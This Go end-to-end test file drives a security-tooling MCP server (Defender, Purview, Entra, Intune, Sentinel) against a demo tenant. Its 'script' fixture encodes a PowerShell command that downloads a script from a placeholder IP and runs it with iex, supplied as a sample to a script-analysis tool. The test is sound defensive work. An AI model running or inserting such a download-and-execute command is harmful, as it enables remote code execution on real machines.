//go:build e2e

package e2e

import (
	"encoding/base64"
	"encoding/json"
	"sort"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/mark3labs/mcp-go/mcp"
)

// facts are a demo tenant's real identifiers, found with its listing tools.
type facts struct {
	incident, alert, mdeAlert, dlp, signin, deviceID, deviceName string
	user, ip, busyDevice, busyUser, hash, dlpIncident            string
}

func structured(r *mcp.CallToolResult) map[string]any {
	var m map[string]any
	b, _ := json.Marshal(r.StructuredContent)
	_ = json.Unmarshal(b, &m)
	return m
}

func items(m map[string]any, key string) []map[string]any {
	arr, _ := m[key].([]any)
	var out []map[string]any
	for _, v := range arr {
		if o, ok := v.(map[string]any); ok {
			out = append(out, o)
		}
	}
	return out
}

func str(m map[string]any, key string) string { s, _ := m[key].(string); return s }

// discover lists the tenant's incidents, alerts, sign-ins, devices and DLP
// alerts and keeps one of each, plus the device and user most alerts name.
func discover(t *testing.T, h *harness) facts {
	t.Helper()
	get := func(tool string, args map[string]any) map[string]any {
		r, err := h.s.call(tool, h.withTenant(args))
		if err != nil || r.IsError {
			t.Fatalf("%s: discovery %s: %v %s", h.where(), tool, err, textOf(r))
		}
		return structured(r)
	}
	var f facts
	first := func(list []map[string]any, key string) string {
		if len(list) == 0 {
			t.Fatalf("%s: discovery found no %s", h.where(), key)
		}
		return str(list[0], key)
	}
	f.incident = first(items(get("defender_list_incidents", map[string]any{"top": 10}), "incidents"), "id")
	alerts := items(get("defender_list_alerts", map[string]any{"top": 200}), "alerts")
	f.alert = first(alerts, "id")
	devices, users := map[string]int{}, map[string]int{}
	for _, a := range alerts {
		full := structured(mustCall(t, h, "defender_get_alert", map[string]any{"id": str(a, "id")}))
		ent, _ := full["entities"].(map[string]any)
		for _, d := range asStrings(ent["devices"]) {
			devices[d]++
		}
		for _, u := range asStrings(ent["users"]) {
			users[u]++
		}
		for _, e := range items(full, "evidence") {
			if f.mdeAlert == "" && str(e, "processCommandLine") != "" && strings.Contains(strings.ToLower(str(e, "processCommandLine")), "powershell") {
				f.mdeAlert = str(a, "id")
			}
			if f.hash == "" && len(str(e, "sha256")) == 64 {
				f.hash = str(e, "sha256")
			}
		}
		if len(devices) > 0 && len(users) > 0 && f.mdeAlert != "" && f.hash != "" && len(devices)+len(users) > 12 {
			break
		}
	}
	f.busyDevice, f.busyUser = busiestKey(devices), busiestKey(users)
	dlps := items(get("purview_list_dlp_alerts", map[string]any{"top": 5}), "alerts")
	f.dlp, f.dlpIncident = first(dlps, "id"), first(dlps, "incidentId")
	signins := items(get("entra_list_signins", map[string]any{"top": 20}), "signIns")
	f.signin, f.user, f.ip = first(signins, "id"), first(signins, "user"), first(signins, "ipAddress")
	devs := items(get("intune_list_devices", map[string]any{"top": 5}), "devices")
	f.deviceID, f.deviceName = first(devs, "id"), first(devs, "name")
	if f.mdeAlert == "" {
		f.mdeAlert = f.alert
	}
	return f
}

func mustCall(t *testing.T, h *harness, tool string, args map[string]any) *mcp.CallToolResult {
	t.Helper()
	r, err := h.s.call(tool, h.withTenant(args))
	if err != nil || r.IsError {
		t.Fatalf("%s: %s %v: %v %s", h.where(), tool, args, err, textOf(r))
	}
	return r
}

func asStrings(v any) []string {
	arr, _ := v.([]any)
	var out []string
	for _, x := range arr {
		if s, ok := x.(string); ok {
			out = append(out, s)
		}
	}
	return out
}

func busiestKey(m map[string]int) string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return m[keys[i]] > m[keys[j]] || m[keys[i]] == m[keys[j]] && keys[i] < keys[j] })
	if len(keys) == 0 {
		return ""
	}
	return keys[0]
}

// encodedPowerShell is a -EncodedCommand sample (UTF-16LE Base64).
func encodedPowerShell(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 0, len(u)*2)
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return "powershell.exe -NoProfile -EncodedCommand " + base64.StdEncoding.EncodeToString(b)
}

// value is the argument a property gets from the tenant's facts, or nil.
func (h *harness) value(tool, name string, prop map[string]any) any {
	f := h.facts
	switch name {
	case "id":
		switch {
		case strings.HasPrefix(tool, "purview"):
			return f.dlp
		case strings.Contains(tool, "incident"):
			return f.incident
		case strings.Contains(tool, "alert"):
			return f.alert
		}
		return f.incident
	case "incidentId":
		return f.incident
	case "caseId":
		return f.dlpIncident
	case "alertId", "fromAlertId":
		return f.mdeAlert
	case "signInId":
		return f.signin
	case "deviceId":
		return f.deviceID
	case "user", "upn":
		return f.user
	case "ipAddress", "ip":
		return f.ip
	case "device", "deviceName":
		return f.deviceName
	case "query":
		if strings.HasPrefix(tool, "sentinel") {
			return "SigninLogs | where TimeGenerated > ago(7d) | summarize count() by UserPrincipalName | take 20"
		}
		return "DeviceProcessEvents | where Timestamp > ago(7d) | where FileName =~ \"powershell.exe\" | project Timestamp, DeviceName, ProcessCommandLine | take 20"
	case "question":
		if tool == "investigate" {
			return "What happened in incident " + f.incident + " and who is affected?"
		}
		return "failed sign-ins for " + f.user + " in the last 7 days"
	case "script":
		return encodedPowerShell("$c = New-Object Net.WebClient; $c.DownloadString('http://203.0.113.7/a.ps1') | iex")
	case "audience":
		return "technical"
	case "fleet", "run":
		return true
	case "users", "accounts":
		return []any{f.user}
	case "devices":
		return []any{f.deviceName}
	case "ips":
		return []any{f.ip}
	case "hashes":
		if f.hash != "" {
			return []any{f.hash}
		}
	case "timeoutSeconds":
		return 60
	}
	if enum, ok := prop["enum"].([]any); ok && len(enum) > 0 {
		return enum[0]
	}
	return nil
}

// variants are the argument sets a tool is driven with: its required
// arguments (from the tenant's facts), and for each optional filter the
// facts can fill, that filter alone — listings with a small page so their
// cursor chains are followed.
func (h *harness) variants(tool string, schema map[string]any) []map[string]any {
	props, _ := schema["properties"].(map[string]any)
	required := map[string]bool{}
	for _, r := range asStrings(schema["required"]) {
		required[r] = true
	}
	base := map[string]any{}
	for name := range required {
		p, _ := props[name].(map[string]any)
		if v := h.value(tool, name, p); v != nil {
			base[name] = v
		}
	}
	if _, ok := props["cursor"]; ok {
		if _, ok := props["top"]; ok {
			base["top"] = 3
		}
	}
	out := []map[string]any{base}
	if tool == "scripts_analyze" {
		out[0] = map[string]any{"script": h.value(tool, "script", nil)}
	}
	names := make([]string, 0, len(props))
	for n := range props {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		if required[n] || n == "tenant" || n == "cursor" || n == "top" || n == "since" || n == "until" || n == "query" || n == "question" || n == "script" && tool == "scripts_analyze" {
			continue
		}
		p, _ := props[n].(map[string]any)
		if enum, isEnum := p["enum"].([]any); isEnum {
			if n == "detail" { // every detail level must fit the budget
				for _, lvl := range enum {
					alt := map[string]any{n: lvl}
					for k, x := range base {
						alt[k] = x
					}
					out = append(out, alt)
				}
			}
			continue
		}
		v := h.value(tool, n, p)
		if v == nil {
			continue
		}
		alt := map[string]any{}
		for k, x := range base {
			alt[k] = x
		}
		alt[n] = v
		if _, ok := v.(bool); ok && props["incidentId"] != nil {
			alt["incidentId"] = h.facts.incident // run=true needs an incident to run for
		}
		if tool == "scripts_analyze" {
			alt = map[string]any{n: v}
		}
		out = append(out, alt)
		// The paging lies: alert listings filtered by the device
		// and the user most alerts name.
		if (tool == "defender_list_alerts" || tool == "purview_list_dlp_alerts") && (n == "device" || n == "user") {
			busy := map[string]any{}
			for k, x := range alt {
				busy[k] = x
			}
			if n == "device" && h.facts.busyDevice != "" {
				busy[n] = h.facts.busyDevice
			} else if n == "user" && h.facts.busyUser != "" {
				busy[n] = h.facts.busyUser
			}
			out = append(out, busy)
		}
	}
	return out
}
